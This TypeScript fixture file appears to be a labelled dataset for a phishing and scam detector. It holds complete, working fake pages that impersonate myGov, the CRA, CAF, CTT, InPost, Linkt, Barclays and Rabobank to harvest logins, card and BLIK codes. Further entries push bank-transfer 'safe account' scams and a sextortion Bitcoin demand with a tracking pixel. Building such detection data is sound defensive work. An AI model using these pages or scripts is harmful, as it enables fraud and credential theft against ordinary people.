import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { assets, site } from '../parts/zg-kit.js';

export const entries: Entry[] = [
  {
  id: 'zg-phish-mygov-refund-bank-login-au',
  label: 'phishing',
  kind: 'gov-benefit',
  url: 'https://my-gov-au.refund-centre.com/signin?ref=ATO-REFUND',
  body: `<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in with myGov - myGov</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f5f5f5}.h{background:#1a1a1a;color:#fff;padding:16px 30px;font-size:22px}.c{max-width:460px;margin:40px auto;background:#fff;padding:30px;border-top:6px solid #0a7c8a}input{width:100%;padding:10px;margin:6px 0 16px;border:1px solid #888}button{background:#0a7c8a;color:#fff;border:0;padding:12px 22px;font-size:16px}#s2{display:none}</style></head><body>
<div class="h">myGov</div><div class="c"><div id="s1"><h2>Sign in with myGov</h2><p>You have a pending tax refund of <b>$782.40</b> from the Australian Taxation Office. Sign in to receive it.</p>
<label>Username or email</label><input id="u"><label>Password</label><input id="p" type="password"><button id="b1">Sign in</button></div>
<div id="s2"><h2>Select your bank to receive your refund</h2><p>Enter your internet banking details so we can deposit the refund instantly.</p>
<select id="bank" style="width:100%;padding:10px"><option>Commonwealth Bank</option><option>Westpac</option><option>ANZ</option><option>NAB</option><option>Bendigo Bank</option></select>
<label>Client number / Customer ID</label><input id="cid"><label>Password</label><input id="bp" type="password"><label>Phone number (for SMS code)</label><input id="ph"><button id="b2">Receive refund</button></div></div>
<script>
function send(s,d){var x=new XMLHttpRequest();x.open('POST','/gate/'+s+'.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(d).toString())}
document.getElementById('b1').onclick=function(){send('l',{u:document.getElementById('u').value,p:document.getElementById('p').value});document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('b2').onclick=function(){send('b',{b:document.getElementById('bank').value,c:document.getElementById('cid').value,p:document.getElementById('bp').value,m:document.getElementById('ph').value});document.body.innerHTML='<p style="padding:40px">Please wait while we verify your refund. Do not close this page. A code will be sent to your mobile.</p>'};
</script></body></html>`,
},
  {
  id: 'zg-phish-cra-interac-refund-ca',
  label: 'phishing',
  kind: 'gov-benefit',
  url: 'https://cra-arc-deposit.ca-refunds.info/etransfer/accept?lang=en',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Canada Revenue Agency - Interac e-Transfer Refund</title>
<style>body{font-family:"Noto Sans",Arial,sans-serif;margin:0}.top{border-bottom:4px solid #26374a;padding:14px 30px;display:flex;justify-content:space-between}.f{font-weight:700}.w{max-width:900px;margin:0 auto;padding:24px}.banks a{display:inline-block;border:1px solid #ccc;border-radius:6px;padding:18px;margin:8px;width:180px;text-align:center;color:#26374a;text-decoration:none;font-weight:700}</style></head><body>
<div class="top"><span class="f">&#127809; Government of Canada / Gouvernement du Canada</span><a href="?lang=fr">Français</a></div>
<div class="w"><h1>INTERAC e-Transfer: Your GST/HST credit refund</h1><p>The Canada Revenue Agency (CRA) has sent you <b>$429.60 (CAD)</b>. The money will expire in 24 hours.</p>
<p>To deposit your money, select your financial institution:</p>
<div class="banks"><a href="/etransfer/bank/rbc">RBC Royal Bank</a><a href="/etransfer/bank/td">TD Canada Trust</a><a href="/etransfer/bank/scotia">Scotiabank</a><a href="/etransfer/bank/bmo">BMO</a><a href="/etransfer/bank/cibc">CIBC</a><a href="/etransfer/bank/desjardins">Desjardins</a></div>
<p style="font-size:12px;color:#555">Date modified: 2026-03-04</p></div></body></html>`,
  routes: {
    'cra-arc-deposit.ca-refunds.info/etransfer/bank/td': htmlRoute(`<!doctype html><html><head><title>EasyWeb Login - TD Canada Trust</title><style>body{font-family:Arial;background:#f3f3f3}.b{max-width:380px;margin:50px auto;background:#fff;padding:30px;border-top:6px solid #008a00}input{width:100%;padding:9px;margin:6px 0 14px}button{background:#008a00;color:#fff;border:0;padding:12px;width:100%}</style></head><body><div class="b"><h2>Login to EasyWeb</h2><form method="post" action="/etransfer/bank/td/post"><label>Username or Access Card</label><input name="card"><label>Password</label><input type="password" name="pw"><button>Login</button></form><p style="font-size:12px">Deposit of $429.60 pending</p></div></body></html>`),
  },
},
  {
  id: 'zg-phish-caf-prime-exceptionnelle-fr',
  label: 'phishing',
  kind: 'gov-benefit',
  url: 'https://caf-prime-energie.fr-allocations.info/mon-compte/versement',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Caf.fr – Versement de votre prime exceptionnelle</title>
<style>body{font-family:Marianne,Arial,sans-serif;margin:0;background:#f6f6f6}.h{background:#fff;border-bottom:3px solid #005ea8;padding:12px 30px}.h b{color:#005ea8;font-size:24px}.c{max-width:520px;margin:30px auto;background:#fff;padding:28px}input{width:100%;padding:9px;margin:5px 0 14px;border:1px solid #999}button{background:#005ea8;color:#fff;border:0;padding:12px 20px;width:100%}.rf{font-size:11px;color:#666}</style></head><body>
<div class="h"><span class="rf">RÉPUBLIQUE<br>FRANÇAISE</span> &nbsp; <b>caf</b>.fr</div>
<div class="c"><h2>Prime exceptionnelle énergie : 287,00 €</h2><p>Suite à une erreur de coordonnées bancaires, le versement de votre prime n'a pas pu aboutir. Merci de mettre à jour vos informations avant le <b>30/11</b>.</p>
<form action="/mon-compte/maj" method="post"><label>Numéro allocataire</label><input name="alloc"><label>Nom et prénom</label><input name="nom"><label>Date de naissance</label><input name="dn"><label>Numéro de téléphone</label><input name="tel">
<label>Numéro de carte bancaire</label><input name="cb"><label>Date d'expiration</label><input name="exp"><label>Cryptogramme</label><input name="cvv"><button>Valider et recevoir ma prime</button></form>
<p class="rf">Vos données sont traitées conformément au RGPD. © Caisse nationale des Allocations familiales</p></div></body></html>`,
},
  {
  id: 'zg-phish-ctt-portes-pagamento-pt',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://ctt-encomendas.pt-entregas.com/pagamento?obj=RR729104885PT',
  body: `<!DOCTYPE html><html lang="pt"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>CTT - Pagamento de portes</title>
<style>body{margin:0;font-family:Arial,sans-serif}.h{background:#df0024;color:#fff;padding:14px 22px;font-size:22px;font-weight:700}.c{max-width:500px;margin:0 auto;padding:22px}input{width:100%;padding:10px;margin:5px 0 14px;border:1px solid #999}button{background:#df0024;color:#fff;border:0;padding:12px;width:100%}</style></head><body>
<div class="h">CTT</div><div class="c"><h2>A sua encomenda aguarda pagamento</h2><p>Objeto <b>RR729104885PT</b>: a entrega foi suspensa por falta de pagamento de portes alfandegários no valor de <b>1,99 €</b>.</p>
<form id="f" method="post" action="/processar.php"><label>Nome completo</label><input name="nome"><label>NIF</label><input name="nif"><label>Morada</label><input name="morada"><label>Código postal</label><input name="cp">
<label>Número do cartão</label><input name="cartao"><label>Validade</label><input name="val"><label>CVV</label><input name="cvv"><button>Pagar 1,99 €</button></form>
<p style="font-size:12px">Após o pagamento, poderá ser solicitado o código enviado pelo seu banco (3D Secure).</p></div></body></html>`,
},
  {
  id: 'zg-phish-inpost-doplata-blik-pl',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://inpost-paczka.doplata-24.pl/sledzenie/620113294418',
  body: `<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>InPost – Dopłata do przesyłki</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5}.h{background:#ffcd00;padding:14px 22px;font-weight:800;font-size:22px}.c{max-width:480px;margin:20px auto;background:#fff;padding:22px;border-radius:8px}input{width:100%;padding:10px;margin:5px 0 14px;border:1px solid #999}button{background:#1d1d1b;color:#ffcd00;border:0;padding:12px;width:100%;font-weight:700}</style></head><body>
<div class="h">InPost</div><div class="c"><h2>Paczka nr 620113294418</h2><p>Przesyłka czeka w sortowni. Z powodu niepełnego adresu wymagana jest dopłata <b>1,20 zł</b>. Po opłaceniu paczka trafi do wybranego Paczkomatu w ciągu 24 h.</p>
<form id="f"><label>Imię i nazwisko</label><input name="n"><label>Numer telefonu</label><input name="t"><label>Kod BLIK</label><input name="blik" maxlength="6"><button>Zapłać 1,20 zł</button></form>
<p style="font-size:12px;color:#666">Jeśli w aplikacji banku wyświetli się inna kwota, jest to blokada autoryzacyjna, która zostanie zwolniona.</p></div>
<script>var _0x=['\\x2f\\x61\\x70\\x69\\x2f\\x62\\x6c\\x69\\x6b','POST'];document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch(_0x[0],{method:_0x[1],body:new FormData(this)}).then(function(){document.querySelector('.c').innerHTML='<h2>Potwierdź płatność w aplikacji banku</h2><p>Oczekiwanie na potwierdzenie...</p>'})}</script></body></html>`,
  routes: { 'inpost-paczka.doplata-24.pl/api/blik': jsonRoute({ ok: true }) },
},
  {
  id: 'zg-phish-linkt-toll-notice-au',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://linkt-au.tollnotice-pay.com/',
  routes: {
    'linkt-au.tollnotice-pay.com/': htmlRoute(`<!doctype html><html><head><title>Loading</title><meta http-equiv="refresh" content="0;url=/au/notice/TN-48821"></head><body></body></html>`),
    'linkt-au.tollnotice-pay.com/au/notice/TN-48821': htmlRoute(`<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Linkt | Pay toll notice</title>
<style>body{margin:0;font-family:Arial,sans-serif}.h{background:#1c1c3c;color:#fff;padding:16px 24px;font-weight:700;font-size:22px}.h span{color:#a6ce39}.c{max-width:520px;margin:0 auto;padding:22px}input{width:100%;padding:10px;margin:5px 0 14px;border:1px solid #999}button{background:#a6ce39;border:0;padding:12px;width:100%;font-weight:700}</style></head><body>
<div class="h">link<span>t</span></div><div class="c"><h2>Toll notice TN-48821</h2><p>Our records show an unpaid toll trip on the M7 Westlink. Amount due: <b>$12.87</b>. An administration fee of $35.00 will be added if not paid within 24 hours.</p>
<form method="post" action="/au/notice/pay"><label>Name on card</label><input name="n"><label>Card number</label><input name="c"><label>Expiry</label><input name="e"><label>CVC</label><input name="v"><label>Mobile</label><input name="m"><button>Pay $12.87</button></form></div></body></html>`),
  },
},
  {
  id: 'zg-scam-bank-safe-account-transfer-uk',
  label: 'scam',
  kind: 'safe-account',
  url: 'https://barclays-fraud-protection-team.com/secure/case/7714',
  body: site({
    host: 'barclays-fraud-protection-team.com', brand: 'Barclays Fraud Protection', color: '#00aeef', title: 'Fraud Case 7714 – Protect your money',
    nav: ['Your case', 'Safe account', 'Help'], cookies: false,
    main: `<h1>Your account is under attack</h1>
<p>Hello, this page was sent to you by your fraud advisor during your phone call. A device in <b>Birmingham</b> has been added to your online banking and three payments are pending. Bank staff may be involved, so please <b>do not visit your branch</b>.</p>
<div class="card"><b>Case number:</b> 7714 &middot; <b>Advisor:</b> Daniel (Fraud Prevention)<br><b>Pending payments:</b> £2,450.00 to "J Hughes", £1,180.00 to "Coinbase", £890.00 to "Wise"</div>
<h2>Move your money to your temporary safe account</h2>
<p>To protect your balance, transfer <b>all available funds</b> to the safe account below, set up in your name. Your money will be returned to a new account within 48 hours.</p>
<table><tr><th>Account name</th><td>YOUR NAME &ndash; Secure Holding</td></tr><tr><th>Sort code</th><td>60-83-71</td></tr><tr><th>Account number</th><td>22910487</td></tr><tr><th>Reference</th><td>SAFE7714</td></tr></table>
<p>If your app shows a warning that the name does not match, select <b>"continue anyway"</b> &ndash; this is because the account is new. If the app asks the purpose, choose <i>"Paying family or friends"</i>.</p>`,
  }),
  routes: assets('barclays-fraud-protection-team.com', [0, 174, 239]),
},
  {
  id: 'zg-scam-bank-veilige-rekening-nl',
  label: 'scam',
  kind: 'safe-account',
  url: 'https://veiligheidsdienst-rabo.nl/dossier',
  body: site({
    host: 'veiligheidsdienst-rabo.nl', brand: 'Veiligheidsdienst Bankzaken', color: '#000066', lang: 'nl', title: 'Uw dossier – Veiligheidsdienst',
    nav: ['Dossier', 'Veilige rekening', 'Contact'],
    main: `<h1>Dossier 2026-11-0483 &ndash; Frauduleuze transacties</h1>
<p>Geachte klant, zoals telefonisch besproken met uw medewerker van de afdeling Fraudebestrijding, zijn er verdachte inlogpogingen op uw rekening gedetecteerd. Uw spaargeld loopt gevaar.</p>
<ol><li>Maak het volledige saldo van uw betaal- en spaarrekening over naar de <b>tijdelijke veilige kluisrekening</b>.</li><li>Vermeld als omschrijving "verbouwing" zodat criminelen de overboeking niet herkennen.</li><li>Installeer de app <b>"Rabo Beveiliging"</b> die wij u via SMS sturen, zodat we kunnen meekijken.</li></ol>
<div class="card">IBAN veilige rekening: <b>NL91 ABNA 0417 1643 00</b><br>Ten name van: Stichting Kluisbeheer</div>
<p><b>Let op:</b> een koerier komt vandaag uw oude bankpassen ophalen. Knip de pas niet door.</p>`,
  }),
  routes: assets('veiligheidsdienst-rabo.nl', [0, 0, 102]),
},
  {
  id: 'zg-scam-sextortion-webcam-bitcoin',
  label: 'scam',
  kind: 'sextortion',
  url: 'https://secure-msg-view.com/m/8f2c41a0',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Private message</title><style>body{background:#111;color:#ddd;font-family:Consolas,monospace;padding:30px;max-width:760px;margin:auto}b{color:#f55}.t{font-size:34px;color:#f55}</style></head><body>
<p>Hello pervert,</p>
<p>I'll be direct. I hacked your device months ago through a malicious ad on an adult website you visited. I installed a RAT (remote administration tool) that gave me full access to your camera, microphone and contacts.</p>
<p>I recorded you while you were watching porn. I made a split-screen video: on one side the video you watched, on the other side YOU. I also have your password (it starts with the first letters of the one you use everywhere).</p>
<p>If you want me to delete everything, send <b>$1,450 in Bitcoin</b> to this address:</p>
<p style="font-size:18px;background:#222;padding:10px">bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>
<p>You have <span class="t" id="t">48:00:00</span> from the moment you opened this page. I can see that you opened it. If I don't receive the payment, the video goes to all your contacts, your family and your colleagues.</p>
<p>Don't reply, don't go to the police &ndash; I will know. Don't know how to buy Bitcoin? Search "buy bitcoin" on Google or use a Bitcoin ATM.</p>
<script>var s=172800;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('t').textContent=h+':'+('0'+m).slice(-2)+':'+('0'+x).slice(-2)},1000);new Image().src='/m/8f2c41a0/opened.gif?t='+Date.now();</script></body></html>`,
  routes: { 'secure-msg-view.com/m/8f2c41a0/opened.gif': { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64') } },
},
];
